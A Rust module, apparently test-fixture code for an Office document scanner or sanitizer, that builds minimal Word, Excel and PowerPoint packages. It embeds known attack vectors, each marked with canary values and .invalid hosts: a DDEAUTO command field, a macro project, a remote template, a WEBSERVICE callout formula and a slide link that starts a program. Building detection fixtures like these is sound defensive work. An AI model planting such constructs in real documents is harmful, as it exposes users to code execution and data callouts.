//! Office Open XML packages, small but whole.

use crate::{CANARY, KEEP, png, program_stub, zip};

const HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;
const TYPES: &str = "http://schemas.openxmlformats.org/package/2006/content-types";
const RELS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const DOC: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const WML: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const SML: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const PML: &str = "http://schemas.openxmlformats.org/presentationml/2006/main";
const DML: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";

/// A relationship: id, type (the last word of an Office type, or a whole URI), target, external.
pub type Relationship<'a> = (&'a str, &'a str, &'a str, bool);

/// A package: `parts` are name, content type and bytes; `relationships` go by source part (empty: the package).
#[must_use]
pub fn package(parts: &[(&str, &str, Vec<u8>)], relationships: &[(&str, &[Relationship<'_>])]) -> Vec<u8> {
    let mut types = format!(
        r#"{HEAD}<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>"#
    );
    for (name, content_type, _) in parts {
        types.push_str(&format!(r#"<Override PartName="/{name}" ContentType="{content_type}"/>"#));
    }
    types.push_str("</Types>");
    let mut members: Vec<(String, Vec<u8>)> = vec![("[Content_Types].xml".into(), types.into_bytes())];
    for (source, rels) in relationships {
        let (folder, leaf) = source.rsplit_once('/').unwrap_or(("", source));
        let name = if folder.is_empty() { format!("_rels/{leaf}.rels") } else { format!("{folder}/_rels/{leaf}.rels") };
        let mut xml = format!(r#"{HEAD}<Relationships xmlns="{RELS}">"#);
        for (id, kind, target, external) in *rels {
            let mode = if *external { r#" TargetMode="External""# } else { "" };
            let kind = if kind.contains(':') { (*kind).to_owned() } else { format!("{DOC}/{kind}") };
            xml.push_str(&format!(r#"<Relationship Id="{id}" Type="{kind}" Target="{target}"{mode}/>"#));
        }
        xml.push_str("</Relationships>");
        members.push((name, xml.into_bytes()));
    }
    members.extend(parts.iter().map(|(name, _, bytes)| ((*name).to_owned(), bytes.clone())));
    let borrowed: Vec<(&str, &[u8])> = members.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
    zip(&borrowed)
}

fn word_body() -> Vec<u8> {
    let picture = "http://schemas.openxmlformats.org/drawingml/2006/picture";
    let wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing";
    format!(
        r#"{HEAD}<w:document xmlns:w="{WML}" xmlns:r="{DOC}" xmlns:wp="{wp}" xmlns:a="{DML}" xmlns:pic="{picture}"><w:body><w:p><w:r><w:rPr><w:b/></w:rPr><w:t>{KEEP}</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId2"><w:r><w:t>the web page</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="picture"/><a:graphic><a:graphicData uri="{picture}"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId3"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:p><w:fldSimple w:instr="DDEAUTO c:\\x {CANARY}"><w:r><w:t>field result</w:t></w:r></w:fldSimple></w:p><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>"#
    )
    .into_bytes()
}

fn word(main_type: &str, project: Option<Vec<u8>>) -> Vec<u8> {
    let mut parts = vec![("word/document.xml", main_type, word_body()), ("word/media/image1.png", "image/png", png())];
    let mut rels: Vec<Relationship<'_>> =
        vec![("rId2", "hyperlink", "https://keep.invalid/", true), ("rId3", "image", "media/image1.png", false)];
    let template = format!("https://{CANARY}.invalid/t.dotm");
    if let Some(project) = project {
        parts.push(("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", project));
        rels.push((
            "rId4",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            false,
        ));
        rels.push(("rId5", "attachedTemplate", &template, true));
    }
    package(&parts, &[("", &[("rId1", "officeDocument", "word/document.xml", false)]), ("word/document.xml", &rels)])
}

/// A Word document with a field that runs a command (OOX-13), else clean.
#[must_use]
pub fn docx() -> Vec<u8> {
    word("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", None)
}

/// A Word document with a macro project (OOX-03) and a remote template (OOX-08).
#[must_use]
pub fn docm() -> Vec<u8> {
    docm_with([CANARY.as_bytes(), &program_stub()].concat())
}

/// The same with this macro project ([`crate::ole::vba_project`]).
#[must_use]
pub fn docm_with(project: Vec<u8>) -> Vec<u8> {
    word("application/vnd.ms-word.document.macroEnabled.main+xml", Some(project))
}

/// An Excel workbook with a formula that calls out (OOX-16) beside one that may stay.
#[must_use]
pub fn xlsx() -> Vec<u8> {
    let workbook = format!(
        r#"{HEAD}<workbook xmlns="{SML}" xmlns:r="{DOC}"><sheets><sheet name="Pumps" sheetId="1" r:id="rId1"/></sheets></workbook>"#
    );
    let sheet = format!(
        r#"{HEAD}<worksheet xmlns="{SML}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{KEEP}</t></is></c><c r="B1"><v>4.25</v></c></row><row r="2"><c r="A2"><f>SUM(B1:B1)</f><v>4.25</v></c><c r="B2" t="str"><f>WEBSERVICE("https://{CANARY}.invalid/")</f><v>cached</v></c></row></sheetData></worksheet>"#
    );
    let main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
    package(
        &[("xl/workbook.xml", main, workbook.into_bytes()), ("xl/worksheets/sheet1.xml", kind, sheet.into_bytes())],
        &[
            ("", &[("rId1", "officeDocument", "xl/workbook.xml", false)]),
            ("xl/workbook.xml", &[("rId1", "worksheet", "worksheets/sheet1.xml", false)]),
        ],
    )
}

/// A PowerPoint presentation of one slide, with a click that starts a program (OOX-26).
#[must_use]
pub fn pptx() -> Vec<u8> {
    let tree = |inner: &str| {
        format!(
            r#"<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{inner}</p:spTree></p:cSld>"#
        )
    };
    let names = format!(r#"xmlns:p="{PML}" xmlns:a="{DML}" xmlns:r="{DOC}""#);
    let shape = format!(
        r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:t>{KEEP}</a:t></a:r></a:p></p:txBody></p:sp>"#
    );
    let map = r#"<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>"#;
    let parts = [
        (
            "ppt/presentation.xml",
            "presentation.main",
            format!(
                r#"<p:presentation {names}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>"#
            ),
        ),
        (
            "ppt/slideMasters/slideMaster1.xml",
            "slideMaster",
            format!(
                r#"<p:sldMaster {names}>{}{map}<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>"#,
                tree("")
            ),
        ),
        (
            "ppt/slideLayouts/slideLayout1.xml",
            "slideLayout",
            format!(r#"<p:sldLayout {names}>{}</p:sldLayout>"#, tree("")),
        ),
        ("ppt/slides/slide1.xml", "slide", format!(r#"<p:sld {names}>{}</p:sld>"#, tree(&shape))),
        ("ppt/theme/theme1.xml", "theme", theme()),
    ];
    let kinds: Vec<String> = parts
        .iter()
        .map(|(_, kind, _)| match *kind {
            "theme" => "application/vnd.openxmlformats-officedocument.theme+xml".to_owned(),
            kind => format!("application/vnd.openxmlformats-officedocument.presentationml.{kind}+xml"),
        })
        .collect();
    let parts: Vec<(&str, &str, Vec<u8>)> =
        parts.iter().zip(&kinds).map(|((n, _, x), k)| (*n, k.as_str(), format!("{HEAD}{x}").into_bytes())).collect();
    let program = format!("file:///c:/{CANARY}.exe");
    package(
        &parts,
        &[
            ("", &[("rId1", "officeDocument", "ppt/presentation.xml", false)]),
            (
                "ppt/presentation.xml",
                &[
                    ("rId1", "slideMaster", "slideMasters/slideMaster1.xml", false),
                    ("rId2", "slide", "slides/slide1.xml", false),
                ],
            ),
            (
                "ppt/slideMasters/slideMaster1.xml",
                &[
                    ("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", false),
                    ("rId2", "theme", "../theme/theme1.xml", false),
                ],
            ),
            (
                "ppt/slideLayouts/slideLayout1.xml",
                &[("rId1", "slideMaster", "../slideMasters/slideMaster1.xml", false)],
            ),
            (
                "ppt/slides/slide1.xml",
                &[
                    ("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", false),
                    ("rId2", "hyperlink", &program, true),
                ],
            ),
        ],
    )
}

fn theme() -> String {
    let colour = |name: &str, value: &str| format!(r#"<a:{name}><a:srgbClr val="{value}"/></a:{name}>"#);
    let colours: String = [
        ("dk1", "000000"),
        ("lt1", "FFFFFF"),
        ("dk2", "1F497D"),
        ("lt2", "EEECE1"),
        ("accent1", "4F81BD"),
        ("accent2", "C0504D"),
        ("accent3", "9BBB59"),
        ("accent4", "8064A2"),
        ("accent5", "4BACC6"),
        ("accent6", "F79646"),
        ("hlink", "0000FF"),
        ("folHlink", "800080"),
    ]
    .iter()
    .map(|(name, value)| colour(name, value))
    .collect();
    let font = r#"<a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/>"#;
    let fill = r#"<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>"#;
    let line = format!(r#"<a:ln w="9525">{fill}</a:ln>"#);
    let effect = "<a:effectStyle><a:effectLst/></a:effectStyle>";
    format!(
        r#"<a:theme xmlns:a="{DML}" name="t"><a:themeElements><a:clrScheme name="c">{colours}</a:clrScheme><a:fontScheme name="f"><a:majorFont>{font}</a:majorFont><a:minorFont>{font}</a:minorFont></a:fontScheme><a:fmtScheme name="m"><a:fillStyleLst>{fill}{fill}{fill}</a:fillStyleLst><a:lnStyleLst>{line}{line}{line}</a:lnStyleLst><a:effectStyleLst>{effect}{effect}{effect}</a:effectStyleLst><a:bgFillStyleLst>{fill}{fill}{fill}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#
    )
}
